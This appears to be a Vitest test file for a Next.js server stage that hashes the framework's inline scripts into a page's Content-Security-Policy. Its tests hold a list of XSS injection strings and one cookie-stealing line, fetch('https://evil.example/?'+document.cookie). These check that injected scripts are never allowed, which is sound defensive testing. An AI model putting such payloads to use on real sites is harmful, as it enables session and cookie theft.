import { createHash } from "node:crypto";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { describe, expect, it } from "vitest";
import { PageBodies } from "@/lib/http/page-bodies.mjs";
import { inlineScriptHashes, scriptHashesStage, withScriptHashes } from "@/lib/http/script-hashes.mjs";
import { shapeAnswer } from "@/lib/server/stages.mjs";

// A page's inline scripts named by their SHA-256 in its policy (lib/http/script-hashes.mjs, server.mjs).

const sha = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
const policy = "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'";
/** A script as Next writes a page's data into it. */
const flight = (text: string) => `self.__next_f.push(${JSON.stringify([1, text])})`;

describe("inlineScriptHashes", () => {
  it("names each script of the framework's shapes a browser runs inline, once, in order", () => {
    const turbopack = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["a.js"]});';
    const html =
      `<script>(self.__next_f=self.__next_f||[]).push([0])</script><p>x</p>` +
      `<SCRIPT type="module">${flight("a")}</SCRIPT ><script id="_R_">${turbopack}</script>` +
      `<script type="text/javascript">${flight("b")}</script><script>${flight("a")}</script>`;
    expect(inlineScriptHashes(Buffer.from(html))).toEqual([
      sha("(self.__next_f=self.__next_f||[]).push([0])"),
      sha(flight("a")),
      sha(turbopack),
      sha(flight("b")),
    ]);
  });

  it("hashes no other inline script, however close to the framework's it looks: an injected one never runs", () => {
    const injected = [
      "alert(document.cookie)",
      "self.__next_f.push([1,'a']);alert(1)//)",
      'self.__next_f.push([1,"a"]);alert(1);self.__next_f.push([1,"b"])',
      "self.__next_f.push(alert(1))",
      'self.__next_f.push([1,"a"]);;',
      'self.__next_f.push([1,"a"]);alert(1);',
      'self.__next_f.push([1,"a"]),alert(1);',
      'self.__next_f.push([1,"a"]);\nalert(1)',
      "(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([1]),alert([1])",
      'self.__next_f.push([1,"a"],alert(1))',
      'self.__next_f.push([1,"a"])//',
      ' self.__next_f.push([1,"a"])',
      'self.__next_f.push([1,"a"]) ',
      'self.__next_f.push([1,"a"])/*x*/',
      'self.__next_f.push([1,"a"]);alert(1)//)',
      'self.__next_f.push([1,"a"])\u2028alert(1)',
      'self.__next_f.push(["a"].concat([alert(1)]))',
      'self.__next_f.push([1,"a"]).x',
      'self.__next_f.push([1,"a"])(1)',
      "self.__next_f.push((alert(1),[1]))",
      'self.__next_f.push([1,"a"]);self.__next_f.push(1)',
      'self.__next_f.push([1,"a"]);self.__next_f.push([alert(1)])',
      'self.__next_f.push([1,"a"]);self.__next_f.push([1,"b"])',
      'self.__next_f.push([1,"a"]);;self.__next_f.push([1,"b"])',
      'self.__next_f.push([1,"a"]);\r\nself.__next_f.push([1,"b"])',
      'self.__next_f.push([1,"a"]); ',
      'self.__next_f.push([1,"a"])\n',
      'self.__next_f.push([1,"a"]);\n',
      'self.__next_f.push([1,"a"])\t;',
      'self.__next_f.push([1,"a"]);//',
      'self.__next_f.push([1,"a"]);/**/',
      'self.__next_f.push({"a":1})',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push([alert(1)])',
    ];
    const html = injected.map((script) => `<script>${script}</script>`).join("<p>x</p>");
    expect(inlineScriptHashes(Buffer.from(html))).toEqual([]);
  });

  it("leaves out scripts loaded from a file and data blocks, which a browser does not run inline", () => {
    const html =
      `<script src="/_next/static/chunks/app.js" async=""></script>` +
      `<script type="application/ld+json">{"@type":"House"}</script><script type='text/plain'>x</script>`;
    expect(inlineScriptHashes(Buffer.from(html))).toEqual([]);
  });

  it("hashes the text as the browser's parser reads it: line breaks as LF", () => {
    const html = `<script>self.__next_f.push([1,\r\n"a",\r"b"])</script>`;
    expect(inlineScriptHashes(Buffer.from(html))).toEqual([sha('self.__next_f.push([1,\n"a",\n"b"])')]);
  });

  it("hashes a script's UTF-8 text, wherever other letters outside ASCII stand before it", () => {
    const html = `<h1>Maison à Liège, 250 000 €</h1><script>${flight("Bienvenue à Liège — 5 €")}</script>`;
    expect(inlineScriptHashes(Buffer.from(html))).toEqual([sha(flight("Bienvenue à Liège — 5 €"))]);
  });
});

describe("withScriptHashes", () => {
  it("adds the hashes to script-src only", () => {
    expect(withScriptHashes(policy, [sha("a")])).toBe(
      `default-src 'self'; script-src 'self' ${sha("a")}; style-src 'self' 'unsafe-inline'`,
    );
  });

  it("leaves a policy without script-src as it is, and one with no hashes to add", () => {
    expect(withScriptHashes("default-src 'none'", [sha("a")])).toBe("default-src 'none'");
    expect(withScriptHashes(policy, [])).toBe(policy);
  });
});

/** The pages the stage keeps, across this file's answers as across a server's. */
const pages = new PageBodies(inlineScriptHashes);

/** Serves `write` as Next's answer through the stage; the answer's policy, type, coding and body (decoded). */
async function served(write: (res: http.ServerResponse) => void, accept = "identity") {
  const server = http.createServer((req, res) => {
    shapeAnswer(req, res, [scriptHashesStage(pages)]).toNext(() => write(res));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    const response = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`, {
      headers: { "accept-encoding": accept },
    });
    const body = await response.text();
    return {
      policy: response.headers.get("content-security-policy"),
      type: response.headers.get("content-type"),
      coding: response.headers.get("content-encoding"),
      body,
    };
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
}

describe("scriptHashesStage", () => {
  it("holds a page streamed in pieces and sends it whole, with every script's hash in its policy", async () => {
    const pieces = [
      `<html><body><script>${flight("one")}</scr`,
      "ipt><main>é</main>",
      `<script>${flight("two")}</script></body></html>`,
    ];
    const answer = await served((res) => {
      res.setHeader("Content-Type", "text/html; charset=utf-8");
      res.setHeader("Content-Security-Policy", policy);
      res.write(pieces[0]);
      // As Next writes its bytes: a Uint8Array, here a view into a larger one.
      res.write(new TextEncoder().encode(`xx${pieces[1]}`).subarray(2));
      res.end(Buffer.from(pieces[2]!));
    });
    expect(answer.body).toBe(pieces.join(""));
    expect(answer.policy).toBe(withScriptHashes(policy, [sha(flight("one")), sha(flight("two"))]));
  });

  it("reads the policy and type given to writeHead too", async () => {
    const answer = await served((res) => {
      res.writeHead(200, { "content-type": "text/html", "content-security-policy": policy });
      res.end(`<script>${flight("three")}</script>`);
    });
    expect(answer.policy).toBe(withScriptHashes(policy, [sha(flight("three"))]));
  });

  it("sends a page from Next's cache compressed as the request accepts from its second answer on", async () => {
    const html = `<html><body><h1>Maison à Liège</h1><script>${flight("four")}</script></body></html>`;
    const fromCache = (res: http.ServerResponse) => {
      res.setHeader("Content-Type", "text/html; charset=utf-8");
      res.setHeader("Content-Security-Policy", policy);
      res.setHeader("x-nextjs-cache", "HIT");
      res.end(html);
    };
    // The first answer is left to the compression library (none in this server); the next ones are kept.
    for (const [accept, coding] of [
      ["br, gzip", null],
      ["br, gzip", "br"],
      ["gzip", "gzip"],
      ["identity", null],
      ["br, gzip", "br"],
    ] as const) {
      const answer = await served(fromCache, accept);
      expect(answer.coding, accept).toBe(coding);
      expect(answer.body, accept).toBe(html);
      expect(answer.policy, accept).toBe(withScriptHashes(policy, [sha(flight("four"))]));
    }
  });

  it("leaves a page drawn for one request to the compression library", async () => {
    const answer = await served((res) => {
      res.writeHead(200, { "content-type": "text/html", "content-security-policy": policy });
      res.end(`<script>${flight("five")}</script>`);
    }, "br, gzip");
    expect(answer.coding).toBeNull();
    expect(answer.policy).toBe(withScriptHashes(policy, [sha(flight("five"))]));
  });

  it("in a page drawn for one request, names the framework's scripts only, never one injected into its content", async () => {
    const injected = "fetch('https://evil.example/?'+document.cookie)";
    const answer = await served((res) => {
      res.writeHead(200, { "content-type": "text/html", "content-security-policy": policy });
      res.end(`<h1>Your search: <script>${injected}</script></h1><script>${flight("six")}</script>`);
    });
    expect(answer.policy).toBe(
      `default-src 'self'; script-src 'self' ${sha(flight("six"))}; style-src 'self' 'unsafe-inline'`,
    );
    expect(answer.policy).not.toContain(sha(injected));
  });

  it("lets any other answer through as it comes", async () => {
    const answer = await served((res) => {
      res.writeHead(200, { "content-type": "text/x-component", "content-security-policy": policy });
      res.write("<script>not a page</script>");
      res.end();
    });
    expect(answer.policy).toBe(policy);
    expect(answer.body).toBe("<script>not a page</script>");
  });
});
